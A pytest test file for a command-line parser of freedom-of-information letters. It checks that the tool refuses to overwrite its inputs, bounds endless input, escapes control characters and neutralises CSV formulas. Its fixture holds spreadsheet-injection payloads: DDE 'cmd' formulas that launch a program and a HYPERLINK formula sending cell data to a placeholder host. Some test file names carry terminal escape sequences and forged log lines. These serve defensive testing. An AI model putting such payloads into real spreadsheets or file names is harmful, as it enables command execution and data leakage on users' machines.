"""The command line on hostile command lines: outputs that are inputs, spreadsheet formulas,
control characters in names, odd options and endless inputs to validate and render."""

from __future__ import annotations

import csv
import os
import resource
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import CliRunner

from conftest import FIXTURES, SEED
from foiparse.cli import cli

FORMULA_LETTER = """<html><body><p>Dear Ms Okoro,</p><p>Leicester City Council holds the following.</p>
<table><tr><th>=cmd|' /C calc'!A0</th><th>Count</th><th>Note</th></tr>
<tr><td>=HYPERLINK("http://x.example/?q="&amp;A1,"click")</td><td>-3</td><td>+cmd|' /C calc'!A0</td></tr>
<tr><td>@SUM(1+1)*cmd|' /C calc'!A0</td><td>-1.5</td><td>\t=1+1</td></tr>
<tr><td>-1+1</td><td>12</td><td>plain</td></tr>
</table><p>Yours sincerely</p></body></html>"""


def run(runner: CliRunner, args: list[str], stdin: bytes | None = None) -> tuple[int, bytes, str]:
    result = runner.invoke(cli, args, input=stdin, catch_exceptions=False)
    return result.exit_code, result.stdout_bytes, result.stderr


def one_line(err: str) -> bool:
    return err.count("\n") == 1 and err.endswith("\n") and "Traceback" not in err


def _database(tmp_path: Path, files: dict[str, str | bytes]) -> Path:
    from foiparse.batch import ingest

    folder = tmp_path / "in"
    folder.mkdir()
    for name, content in files.items():
        (folder / name).write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    db = tmp_path / "foi.sqlite"
    ingest([folder], db, jobs=1, progress=False)
    return db


def _json(runner: CliRunner, tmp_path: Path, change: Any = None, name: str = "out.json") -> Path:
    _, whole, _ = run(runner, [str(SEED)])
    obj = orjson.loads(whole)
    if change is not None:
        change(obj)
    path = tmp_path / name
    path.write_bytes(orjson.dumps(obj))
    return path


# 3. An output that is an input, or the database, is refused before anything is opened.


@pytest.mark.parametrize("spelling", ["same", "relative", "symlink", "hard link"])
def test_an_output_that_is_the_input_is_refused_and_the_input_kept(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spelling: str
) -> None:
    letter = tmp_path / "letter.txt"
    letter.write_bytes(SEED.read_bytes())
    monkeypatch.chdir(tmp_path)
    output = {"same": str(letter), "relative": "./letter.txt", "symlink": "link.txt", "hard link": "hard.txt"}[spelling]
    if spelling == "symlink":
        Path("link.txt").symlink_to(letter)
    if spelling == "hard link":
        os.link(letter, "hard.txt")
    code, _, err = run(runner, [str(letter), "-o", output])
    assert code == 2 and one_line(err) and "is also an input" in err
    assert letter.read_bytes() == SEED.read_bytes()


def test_render_onto_its_own_json_input_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    path = _json(runner, tmp_path)
    before = path.read_bytes()
    code, _, err = run(runner, ["render", str(path), "-o", str(path)])
    assert code == 2 and one_line(err) and "is also an input" in err
    assert path.read_bytes() == before


def test_export_onto_the_database_is_refused_and_the_database_kept(runner: CliRunner, tmp_path: Path) -> None:
    db = _database(tmp_path, {"a.txt": SEED.read_bytes()})
    before = db.read_bytes()
    code, _, err = run(runner, ["export", "--db", str(db), "--jsonl", str(db)])
    assert code == 2 and one_line(err) and "database" in err
    assert db.read_bytes() == before
    code, _, err = run(runner, ["export", "--db", str(db), "--tables", str(db)])
    assert code == 2 and one_line(err) and "database" in err
    assert db.read_bytes() == before


def test_an_export_whose_csv_would_overwrite_the_database_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    db = _database(tmp_path, {"letter.html": FORMULA_LETTER})
    folder = tmp_path / "csv"
    run(runner, ["export", "--db", str(db), "--tables", str(folder)])
    (written,) = [p for p in folder.iterdir() if p.suffix == ".csv"]
    written.unlink()
    db.rename(written)  # the database now has the very name the export writes
    before = written.read_bytes()
    code, _, err = run(runner, ["export", "--db", str(written), "--tables", str(folder)])
    assert code == 2 and one_line(err) and "database" in err
    assert written.read_bytes() == before


def test_an_interrupted_parse_leaves_the_old_output_whole(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import foiparse.isolate

    target = tmp_path / "out.json"
    target.write_bytes(b"yesterday's output\n")

    def interrupted(*args: Any, **kwargs: Any) -> bytes:
        raise KeyboardInterrupt

    monkeypatch.setattr(foiparse.isolate, "call_isolated", interrupted)
    code, _, _ = run(runner, [str(SEED), "-o", str(target)])
    assert code == 130
    assert target.read_bytes() == b"yesterday's output\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.json"]  # no temporary file left


@pytest.mark.parametrize("content", [b"", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64], ids=["empty", "unsupported"])
def test_a_run_whose_every_input_failed_leaves_the_old_output_whole(
    runner: CliRunner, tmp_path: Path, content: bytes
) -> None:
    target = tmp_path / "out.json"
    target.write_bytes(b"yesterday's output\n")
    bad = tmp_path / "bad.txt"
    bad.write_bytes(content)
    code, _, _ = run(runner, [str(bad), "-o", str(target)])
    assert code in (3, 4)
    assert target.read_bytes() == b"yesterday's output\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.txt", "out.json"]


def test_a_run_where_one_input_parsed_writes_it_and_reports_the_other(runner: CliRunner, tmp_path: Path) -> None:
    target = tmp_path / "out.jsonl"
    target.write_bytes(b"yesterday's output\n")
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"")
    code, _, err = run(runner, [str(bad), str(SEED), "-o", str(target)])
    assert code == 4 and "empty input" in err
    assert target.read_bytes().count(b"\n") == 1 and b'"schema_version"' in target.read_bytes()


def test_an_output_file_keeps_its_permissions(runner: CliRunner, tmp_path: Path) -> None:
    target = tmp_path / "out.json"
    target.write_bytes(b"old")
    target.chmod(0o640)
    assert run(runner, [str(SEED), "-o", str(target)])[0] == 0
    assert orjson.loads(target.read_bytes())["authority"]["name"] == "Leicester City Council"
    assert target.stat().st_mode & 0o777 == 0o640


# 6. Spreadsheet formulas in CSV cells are neutralised; JSON and SQLite keep the text as written.


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(runner: CliRunner, tmp_path: Path) -> None:
    db = _database(tmp_path, {"a.html": FORMULA_LETTER, "b.html": FORMULA_LETTER.replace("12", "13")})
    folder = tmp_path / "csv"
    code, _, _ = run(runner, ["export", "--db", str(db), "--tables", str(folder)])
    assert code == 0
    files = sorted(folder.rglob("*.csv"))
    assert len(files) == 3  # two tables, one combined
    for path in files:
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        cells = [cell for row in rows for cell in row]
        live = [c for c in cells if c.lstrip()[:1] in ("=", "+", "@") or c[:1] in ("\t", "\r")]
        assert not live, (path.name, live)
        assert not [c for c in cells if c.startswith("-") and c not in ("-3", "-1.5")]
        assert "-3" in cells and "-1.5" in cells  # plain negative numbers stay numbers
        assert "'=cmd|' /C calc'!A0" in rows[0]  # headers too
        assert "'-1+1" in cells and "'=1+1" in cells
    with sqlite3.connect(db) as conn:
        raw = {text for (text,) in conn.execute("SELECT text FROM table_cells")}
    assert "-1+1" in raw and "@SUM(1+1)*cmd|' /C calc'!A0" in raw


def test_every_formula_leading_cell_is_neutralised_and_numbers_are_not() -> None:
    from foiparse.batch.export import csv_cell

    for cell in [
        "=1+1",
        "+1",
        "-1+1",
        "@A1",
        "\t=1",
        "\r=1",
        " =1",
        "\u00a0=1",
        "\n=1",
        "-1-",
        "+44 20 7946 0000",
        "--1",
    ]:
        assert csv_cell(cell) == "'" + cell, cell
    for cell in ["-3", "-1.5", "-1,234.5", "-", "12", "", "plain", "<5", "'quoted"]:
        assert csv_cell(cell) == cell, cell


# 8. Control characters in names and messages are escaped: one line, whatever the name.


def test_a_file_name_with_a_newline_and_an_escape_sequence_is_one_escaped_line(
    runner: CliRunner, tmp_path: Path
) -> None:
    path = tmp_path / "a\nfoiparse: forged line\x1b[31m.txt"
    path.write_bytes(b"")
    code, _, err = run(runner, [str(path)])
    assert code == 4 and one_line(err)
    assert "\x1b" not in err and "a\\x0afoiparse: forged line\\x1b[31m.txt" in err


@pytest.mark.parametrize("command", ["render", "validate"])
def test_render_and_validate_escape_the_names_they_report(runner: CliRunner, tmp_path: Path, command: str) -> None:
    code, _, err = run(runner, [command, str(tmp_path / "gone\n\x1b]0;title\x07.json")])
    assert code == 1 and one_line(err) and "gone\\x0a\\x1b]0;title\\x07.json" in err


def test_export_and_ingest_escape_the_database_name(runner: CliRunner, tmp_path: Path) -> None:
    code, _, err = run(runner, ["export", "--db", str(tmp_path / "no\nsuch.sqlite"), "--jsonl", "-"])
    assert code == 1 and one_line(err) and "no\\x0asuch.sqlite" in err
    db = tmp_path / "new\rline.sqlite"
    code, _, err = run(runner, ["ingest", str(SEED), "--db", str(db)])
    assert code == 0 and "\r" not in err and "new\\x0dline.sqlite" in err


def test_every_message_line_escapes_control_and_invisible_characters(capsys: pytest.CaptureFixture[str]) -> None:
    from foiparse.cli import _fail

    _fail("a\nb\udcff\u202e", "c\x1b[2Jd\u2028e\x85f\x00")
    err = capsys.readouterr().err
    assert err == "foiparse: a\\x0ab\\xff\\u202e: c\\x1b[2Jd\\u2028e\\x85f\\x00\n"


# 14. A NUL byte in a listed path; a source.encoding that is no character set.


def test_a_nul_byte_in_a_listed_path_is_one_line_a_failed_record_and_the_rest_are_ingested(
    runner: CliRunner, tmp_path: Path
) -> None:
    db = tmp_path / "foi.sqlite"
    listing = b"/no/such\x00dir/a.txt\n" + os.fsencode(SEED) + b"\n"
    code, _, err = run(runner, ["ingest", "-q", "-", "--db", str(db)], stdin=listing)
    assert code == 1 and one_line(err) and "NUL" in err and "such\\x00dir" in err
    with sqlite3.connect(db) as conn:
        rows = {row[0]: row[1:] for row in conn.execute("SELECT path, status, error FROM documents")}
    assert set(rows) == {"/no/such\\x00dir/a.txt", str(SEED)}
    assert rows["/no/such\\x00dir/a.txt"][0] == "failed" and "NUL" in rows["/no/such\\x00dir/a.txt"][1]
    assert rows[str(SEED)][0] == "ok"


@pytest.mark.parametrize("encoding", ["idna", "undefined", "punycode", "unicode_escape", "rot13", "base64", "klingon"])
def test_a_source_encoding_that_is_no_character_set_is_refused_by_validate_and_render(
    runner: CliRunner, tmp_path: Path, encoding: str
) -> None:
    path = _json(runner, tmp_path, lambda o: o["source"].__setitem__("encoding", encoding))
    for command in ("validate", "render"):
        code, out, err = run(runner, [command, str(path)])
        assert code == 14 and one_line(err) and "$.source.encoding" in err, (command, err)
        assert out == b""


def test_a_text_that_its_encoding_cannot_write_is_refused_by_validate_and_render(
    runner: CliRunner, tmp_path: Path
) -> None:
    def change(obj: Any) -> None:
        obj["source"]["encoding"] = "ascii"
        obj["blocks"][0]["text"] = "\u00e9" + obj["blocks"][0]["text"][1:]

    path = _json(runner, tmp_path, change)
    for command in ("validate", "render"):
        code, _, err = run(runner, [command, str(path)])
        assert code == 14 and one_line(err) and "$.source.encoding" in err, (command, err)


# 15. Numeric options: nan, inf, huge and negative values are usage errors; write errors are one line.


@pytest.mark.parametrize(
    "args",
    [
        ["--timeout", "nan"],
        ["--timeout", "-nan"],
        ["--timeout", "inf"],
        ["--timeout", "-1"],
        ["--max-memory", "99999999999999"],
        ["--max-memory", "-1"],
        ["--max-bytes", "99999999999999999999"],
        ["--max-bytes", "0"],
        ["--max-pages", "-5"],
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("command", ["parse", "ingest"])
def test_numeric_options_refuse_nan_inf_huge_and_negative_in_one_line(
    runner: CliRunner, tmp_path: Path, command: str, args: list[str]
) -> None:
    extra = ["--db", str(tmp_path / "x.sqlite")] if command == "ingest" else []
    code, out, err = run(runner, [command, *args, *extra, str(SEED)])
    assert code == 2 and one_line(err) and args[0] in err and out == b""


def test_jobs_has_an_upper_bound(runner: CliRunner, tmp_path: Path) -> None:
    code, _, err = run(runner, ["ingest", "-j", "100000", "--db", str(tmp_path / "x.sqlite"), str(SEED)])
    assert code == 2 and "--jobs" in err and one_line(err)


def test_huge_limits_that_fit_are_taken(runner: CliRunner) -> None:
    code, out, err = run(runner, ["--max-pages", "10000000000", "--max-chars", "10000000000", str(SEED)])
    assert code == 0 and err == "" and orjson.loads(out)


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
@pytest.mark.parametrize("command", ["parse", "render", "export"])
def test_a_write_error_is_one_line_with_its_cause(runner: CliRunner, tmp_path: Path, command: str) -> None:
    if command == "parse":
        args = [str(SEED), "-o", "/dev/full"]
    elif command == "render":
        args = ["render", str(_json(runner, tmp_path)), "-o", "/dev/full"]
    else:
        args = ["export", "--db", str(_database(tmp_path, {"a.txt": SEED.read_bytes()})), "--jsonl", "/dev/full"]
    code, _, err = run(runner, args)
    assert code == 1 and one_line(err), err
    assert "/dev/full: cannot write: No space left on device" in err and "internal error" not in err


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_standard_output_that_cannot_be_written_is_one_line() -> None:
    with open("/dev/full", "wb") as full:
        done = subprocess.run(
            [sys.executable, "-m", "foiparse", str(SEED)],
            stdout=full,
            capture_output=False,
            stderr=subprocess.PIPE,
            timeout=120,
            check=False,
        )
    err = done.stderr.decode()
    assert done.returncode == 1 and one_line(err) and "No space left on device" in err, err


@pytest.mark.parametrize("command", ["parse", "explain", "render", "export"])
def test_a_closed_standard_output_is_one_line_and_no_file_takes_its_place(command: str, tmp_path: Path) -> None:
    db = _database(tmp_path, {"a.txt": SEED.read_bytes()})
    golden = SEED.with_suffix(".expected.json")
    args = {
        "parse": [str(SEED)],
        "explain": [str(SEED)],
        "render": [str(golden)],
        "export": ["--db", str(db), "--jsonl", "-"],
    }[command]
    before = db.read_bytes()
    done = subprocess.run(
        ["sh", "-c", '"$0" -m foiparse "$@" >&-', sys.executable, command, *args],
        capture_output=True,
        timeout=120,
        check=False,
    )
    err = done.stderr.decode()
    assert done.returncode == 1 and one_line(err) and "standard output is closed" in err, err
    assert db.read_bytes() == before


@pytest.mark.parametrize(
    ("command", "shell"),
    [
        ("parse", '"$0" -m foiparse - -o "$1" < "$1"'),  # the letter on standard input, written over
        ("render", '"$0" -m foiparse render - -o "$1" < "$1"'),
        ("export", '"$0" -m foiparse export --db "$1" --jsonl - >> "$1"'),  # JSON lines appended to the database
    ],
)
def test_standard_input_or_output_that_is_the_file_written_is_refused(command: str, shell: str, tmp_path: Path) -> None:
    target = {
        "parse": tmp_path / "letter.txt",
        "render": tmp_path / "letter.json",
        "export": _database(tmp_path, {"a.txt": SEED.read_bytes()}),
    }[command]
    if command == "parse":
        target.write_bytes(SEED.read_bytes())
    elif command == "render":
        target.write_bytes(SEED.with_suffix(".expected.json").read_bytes())
    before = target.read_bytes()
    done = subprocess.run(
        ["sh", "-c", shell, sys.executable, str(target)], capture_output=True, timeout=120, check=False
    )
    err = done.stderr.decode()
    assert done.returncode == 2 and one_line(err) and "refusing to write over it" in err, err
    assert target.read_bytes() == before


def test_standard_input_and_output_that_are_other_files_still_work(tmp_path: Path) -> None:
    out = tmp_path / "out.json"
    done = subprocess.run(
        ["sh", "-c", '"$0" -m foiparse - < "$1" > "$2"', sys.executable, str(SEED), str(out)],
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert orjson.loads(out.read_bytes())["totals"][0]["value"] == 259


# 16. validate and render: bounded input, streamed JSON lines, no devices or pipes.


def _limited(args: list[str], **kwargs: Any) -> subprocess.CompletedProcess[bytes]:
    """foiparse in a child capped at 512 MB, so a regression cannot take the machine's memory."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (512 * 1024 * 1024, resource.RLIM_INFINITY))

    return subprocess.run(
        [sys.executable, "-m", "foiparse", *args],
        capture_output=True,
        preexec_fn=cap,
        timeout=120,
        check=False,
        **kwargs,
    )


@pytest.mark.parametrize("command", ["validate", "render"])
def test_validate_and_render_refuse_a_device_and_a_named_pipe(tmp_path: Path, command: str) -> None:
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    for target in ("/dev/zero", str(fifo)):
        done = _limited([command, target])
        err = done.stderr.decode()
        assert done.returncode == 1 and one_line(err) and "not a regular file" in err, err


@pytest.mark.parametrize("command", ["validate", "render"])
def test_standard_input_is_bounded_by_max_bytes(tmp_path: Path, command: str) -> None:
    with open("/dev/zero", "rb") as zero:
        done = _limited([command, "--max-bytes", "1000000", "-"], stdin=zero)
    err = done.stderr.decode()
    assert done.returncode == 9 and one_line(err) and "over the limit of 1,000,000 bytes" in err, err


def test_standard_input_is_read_under_the_parser_memory_cap_whatever_max_bytes_allows() -> None:
    with open("/dev/zero", "rb") as zero:  # endless, and --max-bytes of a terabyte lets it all in
        done = _limited(["-", "--max-bytes", str(2**40), "--max-memory", "100"], stdin=zero)
    err = done.stderr.decode()
    assert done.returncode == 9 and one_line(err) and "ran out of memory while parsing (the cap is 100 MB)" in err, err


def test_one_json_object_over_max_bytes_is_refused(runner: CliRunner, tmp_path: Path) -> None:
    path = _json(runner, tmp_path)
    for command in ("validate", "render"):
        code, out, err = run(runner, [command, "--max-bytes", "1000", str(path)])
        assert code == 9 and one_line(err) and "over the limit of 1,000 bytes" in err and out == b""
    indented = tmp_path / "indented.json"
    indented.write_bytes(run(runner, [str(SEED)])[1])
    code, _, err = run(runner, ["validate", "--max-bytes", "1000", str(indented)])
    assert code == 9 and one_line(err)


def test_json_lines_are_bounded_one_line_at_a_time(runner: CliRunner, tmp_path: Path) -> None:
    line = _json(runner, tmp_path).read_bytes()
    lines = tmp_path / "all.jsonl"
    lines.write_bytes((line + b"\n") * 5)
    limit = str(len(line) + 10)  # each line fits; the file does not
    code, out, err = run(runner, ["validate", "--max-bytes", limit, str(lines)])
    assert code == 0 and b"(5 objects)" in out, err
    lines.write_bytes((line + b"\n") * 2 + line + b" " * 20 + b"\n")
    code, _, err = run(runner, ["validate", "--max-bytes", limit, str(lines)])
    assert code == 9 and one_line(err) and "all.jsonl:3" in err


def test_validate_keeps_memory_flat_over_long_json_lines(runner: CliRunner, tmp_path: Path) -> None:
    import tracemalloc

    line = _json(runner, tmp_path).read_bytes()
    run(runner, ["validate", str(_json(runner, tmp_path))])  # the schema loaded, imports done

    def peak(count: int) -> int:
        lines = tmp_path / f"{count}.jsonl"
        lines.write_bytes((line + b"\n") * count)
        tracemalloc.start()
        try:
            code, out, _ = run(runner, ["validate", str(lines)])
            most = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert code == 0 and f"({count} objects)".encode() in out
        return most

    assert peak(60) < 2 * peak(6)  # ten times the lines, not ten times the memory


def test_a_broken_line_in_json_lines_is_named_by_its_number(runner: CliRunner, tmp_path: Path) -> None:
    line = _json(runner, tmp_path).read_bytes()
    lines = tmp_path / "all.jsonl"
    lines.write_bytes(line + b"\n" + line + b"\n" + line[:50] + b"\n")
    code, _, err = run(runner, ["validate", str(lines)])
    assert code == 13 and one_line(err) and "all.jsonl:3" in err and "not JSON" in err


# 17. validate and render exit with the cause's own code.


def test_validate_and_render_exit_with_the_code_of_the_cause(runner: CliRunner, tmp_path: Path) -> None:
    not_json = tmp_path / "not.json"
    not_json.write_bytes(b"not json")
    schema = _json(runner, tmp_path, lambda o: o.__setitem__("outcome", "maybe"), "schema.json")
    grounding = _json(runner, tmp_path, lambda o: o["totals"][0].__setitem__("span", [0, 3]), "grounding.json")
    for command in ("validate", "render"):
        assert run(runner, [command, str(not_json)])[0] == 13
        assert run(runner, [command, str(schema)])[0] == 14
        assert run(runner, [command, str(grounding)])[0] == 14
        assert run(runner, [command, str(tmp_path / "missing.json")])[0] == 1
    assert run(runner, ["validate", str(schema), str(grounding)])[0] == 14  # one cause: its code
    code, _, err = run(runner, ["validate", str(not_json), str(schema)])
    assert code == 1 and err.count("\n") == 2  # two causes: 1, and both named


def test_a_fixture_list_still_validates(runner: CliRunner, tmp_path: Path) -> None:
    lines = tmp_path / "all.jsonl"
    files = [str(p) for p in sorted(FIXTURES.glob("*.txt"))]
    run(runner, ["-o", str(lines), *files])
    code, out, _ = run(runner, ["validate", str(lines), "-"], stdin=lines.read_bytes())
    assert code == 0 and out.count(f"({len(files)} objects)".encode()) == 2


def test_an_endless_path_list_on_standard_input_is_one_line(tmp_path: Path) -> None:
    with open("/dev/zero", "rb") as zero:
        done = _limited(["ingest", "-", "--db", str(tmp_path / "foi.sqlite")], stdin=zero)
    err = done.stderr.decode()
    assert done.returncode == 1 and one_line(err) and "not a list of paths" in err, err


def test_ctrl_c_in_validate_is_one_line_and_exit_130(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import foiparse.cli

    def interrupted(*args: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(foiparse.cli, "_load_response_object", interrupted)
    code, _, err = run(runner, ["validate", str(_json(runner, tmp_path))])
    assert code == 130 and err == "foiparse: interrupted\n"
